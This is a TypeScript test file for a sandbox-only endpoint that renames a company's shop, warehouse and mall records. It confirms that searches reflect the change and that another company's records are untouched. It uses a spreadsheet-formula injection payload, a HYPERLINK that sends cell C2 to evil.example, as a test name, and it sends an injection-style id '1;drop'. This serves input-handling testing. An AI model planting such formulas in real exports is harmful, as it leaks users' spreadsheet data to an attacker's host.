// PUT /__sandbox/masters/<master>/<id>: a test renames a shop, warehouse or mall of one company
// (as a person does on the main function's screens), and the API's searches answer the new name.
// Like every test control it exists only with SANDBOX_ADMIN: server.ts mounts the whole /__sandbox
// router only then (calls.test.ts proves the 404 without it).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RunningSandbox } from "./server";
import { admin, call, login, startTestSandbox, type Tokens } from "./test-support";

let sb: RunningSandbox;
let staff: Tokens;
let operator: Tokens;
beforeAll(async () => {
  sb = await startTestSandbox();
  staff = await login(sb.url);
  operator = await login(sb.url, "operator@another.test");
});
afterAll(async () => {
  await sb?.close();
});

const EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"Open")';

async function nameOf(tokens: Tokens, path: string, idField: string, nameField: string, id: string): Promise<string | null | undefined> {
  const answer = await call(sb.url, path, { ...tokens, fields: `${idField},${nameField}`, [`${idField}-eq`]: id });
  expect(answer.result, JSON.stringify(answer)).toBe("success");
  return answer.data?.[0]?.[nameField];
}

describe("PUT /__sandbox/masters/<master>/<id>", () => {
  it("renames one company's shop, warehouse and mall; the searches answer the new names; the other company's are untouched", async () => {
    const cases = [
      { master: "shop", path: "/api_v1_master_shop/search", id: "shop_id", name: "shop_name" },
      { master: "warehouse", path: "/api_v1_warehouse_base/search", id: "warehouse_id", name: "warehouse_name" },
      { master: "mall", path: "/api_v1_system_mall/search", id: "mall_id", name: "mall_name" },
    ] as const;
    for (const c of cases) {
      const theirsBefore = await nameOf(operator, c.path, c.id, c.name, "1");
      const before = await nameOf(staff, c.path, c.id, c.name, "1");
      expect(before, c.master).toBeTruthy();
      const res = await admin(sb.url, "PUT", `/masters/${c.master}/1`, { login_code: "staff@sandbox.test", name: EVIL });
      expect(res.status, c.master).toBe(200);
      expect(await res.json()).toEqual({ master: c.master, company_ne_id: "NE0000000001", id: "1", name: EVIL, previous_name: before });
      expect(await nameOf(staff, c.path, c.id, c.name, "1")).toBe(EVIL);
      expect(await nameOf(operator, c.path, c.id, c.name, "1")).toBe(theirsBefore);
      const back = await admin(sb.url, "PUT", `/masters/${c.master}/1`, { company_ne_id: "NE0000000001", name: before! });
      expect(((await back.json()) as { previous_name: string }).previous_name).toBe(EVIL);
      expect(await nameOf(staff, c.path, c.id, c.name, "1")).toBe(before);
    }
  });

  it("checks its input: the master, the id, one company, a name; 404 for a row the company does not have", async () => {
    const put = (path: string, body: Record<string, unknown>) => admin(sb.url, "PUT", path, body);
    const staffName = { login_code: "staff@sandbox.test", name: "x" };
    expect((await put("/masters/goods/1", staffName)).status).toBe(400);
    expect((await put("/masters/shop/1;drop", staffName)).status).toBe(400);
    expect((await put("/masters/shop/1", { name: "x" })).status).toBe(400);
    expect((await put("/masters/shop/1", { ...staffName, company_ne_id: "NE0000000001" })).status).toBe(400);
    expect((await put("/masters/shop/1", { login_code: "staff@sandbox.test", name: "" })).status).toBe(400);
    expect((await put("/masters/shop/1", { login_code: "staff@sandbox.test", name: "x".repeat(201) })).status).toBe(400);
    expect((await put("/masters/shop/1", { login_code: "nobody@x", name: "x" })).status).toBe(400);
    expect((await put("/masters/shop/1", { ...staffName, extra: 1 })).status).toBe(400);
    const missing = await put("/masters/shop/999999", staffName);
    expect(missing.status).toBe(404);
    expect(await missing.json()).toEqual({ error: "company NE0000000001 has no shop 999999" });
  });
});
